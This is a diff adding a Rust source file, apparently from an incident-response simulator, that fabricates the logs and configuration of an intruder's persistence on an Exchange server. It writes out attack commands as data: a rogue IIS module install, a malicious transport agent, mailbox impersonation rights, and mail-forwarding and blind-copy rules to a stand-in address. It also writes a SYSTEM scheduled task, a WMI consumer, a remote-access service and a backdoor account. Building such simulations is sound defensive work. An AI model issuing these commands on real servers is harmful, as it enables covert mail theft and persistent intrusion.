@@ -1,0 +1,125 @@
+//! What an intruder leaves beside a web shell: each in the log that tells of its making, and in the state where it is kept.
+
+use crate::calendar::{MINUTE, SECOND};
+use crate::configuration::{self, Additions};
+use crate::logs::events::{self, Event, Process};
+use crate::server::Server;
+use afterpatch_model::Timestamp;
+
+const W3WP: &str = r"C:\Windows\System32\inetsrv\w3wp.exe";
+const SECURITY: &str = "Microsoft-Windows-Security-Auditing";
+
+/// What is planted in the web server.
+pub(crate) const IN_IIS: Additions = Additions {
+    modules: &[
+        ("HttpCacheModule2", r"C:\Windows\Temp\cache.dll"),
+        ("HttpLogModule", r"%windir%\System32\inetsrv\httplog.dll"),
+    ],
+    handlers: &[("Pictures", "*.png", "System.Web.UI.PageHandlerFactory")],
+    folders: &[("/aspnet", r"C:\ProgramData\COM1\q")],
+    rewriting: &[("Static", "^a\\.gif$", r#"<action type="Rewrite" url="http://127.0.0.1:8080/{R:0}" />"#)],
+    agents: &[],
+    tasks: &[],
+};
+
+/// What is planted in Exchange's own configuration.
+pub(crate) const IN_EXCHANGE: Additions = Additions {
+    agents: &[("Header Agent", "Header.AgentFactory", r"C:\Windows\Temp\header.dll")],
+    modules: &[],
+    handlers: &[],
+    folders: &[],
+    rewriting: &[],
+    tasks: &[],
+};
+
+/// What is planted in Windows.
+pub(crate) const IN_WINDOWS: Additions = Additions {
+    tasks: &[("Winnet", r"cmd.exe /c C:\Windows\Temp\xx.bat")],
+    modules: &[],
+    handlers: &[],
+    folders: &[],
+    rewriting: &[],
+    agents: &[],
+};
+
+/// Plants modules, a handler, a folder and a rewriting rule; a module by a command of the web server's.
+pub(crate) fn plant_in_iis(server: &mut Server, time: Timestamp) {
+    run(
+        server,
+        time,
+        "inetsrv\\appcmd.exe",
+        "appcmd.exe install module /name:HttpCacheModule2 /image:C:\\Windows\\Temp\\cache.dll",
+    );
+    configuration::write(server, time.plus(MINUTE), &IN_IIS);
+}
+
+/// Plants an agent in mail transport, rights on all mailboxes, a rule of a mailbox and one of transport.
+pub(crate) fn plant_in_exchange(server: &mut Server, time: Timestamp) {
+    for (step, (cmdlet, parameters)) in (0_i64..).zip(CMDLETS) {
+        events::log_cmdlet(server, time.plus(step * MINUTE), cmdlet, parameters);
+    }
+    configuration::write(server, time, &IN_EXCHANGE);
+}
+
+const CMDLETS: &[(&str, &str)] = &[
+    (
+        "Install-TransportAgent",
+        "-Name \"Header Agent\" -TransportAgentFactory \"Header.AgentFactory\" -AssemblyPath \"C:\\Windows\\Temp\\header.dll\"",
+    ),
+    ("Enable-TransportAgent", "-Identity \"Header Agent\""),
+    ("New-ManagementRoleAssignment", "-Name \"Sync\" -Role \"ApplicationImpersonation\" -User \"svc-sync\""),
+    (
+        "New-InboxRule",
+        "-Mailbox \"a.tanaka\" -Name \".\" -ForwardTo \"box@example.net\" -DeleteMessage \"True\"",
+    ),
+    ("New-TransportRule", "-Name \"Backup copy\" -BlindCopyTo \"box@example.net\" -From \"c.osei\""),
+];
+
+/// Plants a task, a service, a subscription, an account and a tool for control from afar.
+pub(crate) fn plant_in_windows(server: &mut Server, time: Timestamp) {
+    run(
+        server,
+        time,
+        "schtasks.exe",
+        "schtasks /create /sc minute /mo 45 /tn Winnet /tr \"cmd.exe /c C:\\Windows\\Temp\\xx.bat\" /ru system",
+    );
+    events::log_service(server, time.plus(MINUTE), "cw", r"C:\Users\Public\cw.exe");
+    events::log_service(
+        server,
+        time.plus(2 * MINUTE),
+        "AnyDesk",
+        r#""C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service"#,
+    );
+    let consumer = [
+        ("EventType", "WmiConsumerEvent"),
+        ("Name", "Sync"),
+        ("Type", "Command Line"),
+        ("Destination", r"cmd /c C:\Windows\Temp\xx.bat"),
+    ];
+    log_event(server, time.plus(3 * MINUTE), (events::SYSMON, "Microsoft-Windows-Sysmon", 20), &consumer);
+    let maker = format!("{}$", server.plan.name);
+    let account = [("TargetUserName", "helpdesk2"), ("SubjectUserName", maker.as_str())];
+    log_event(server, time.plus(4 * MINUTE), ("Security", SECURITY, 4720), &account);
+    configuration::write(server, time, &IN_WINDOWS);
+}
+
+fn log_event(
+    server: &mut Server,
+    time: Timestamp,
+    (channel, source, id): (&str, &str, u32),
+    fields: &[(&str, &str)],
+) {
+    events::log(server, time, &Event { channel, source, id, level: 4, message: "", fields });
+}
+
+/// The web server starts a program, as it does for whoever commands it.
+fn run(server: &mut Server, time: Timestamp, program: &str, command_line: &str) {
+    let process = Process {
+        image: &format!(r"C:\Windows\System32\{program}"),
+        command_line,
+        parent_image: W3WP,
+        parent_command_line: "w3wp.exe -ap \"MSExchangeOWAAppPool\"",
+        user: r"NT AUTHORITY\SYSTEM",
+    };
+    events::log_process(server, time.plus(SECOND), &process);
+}
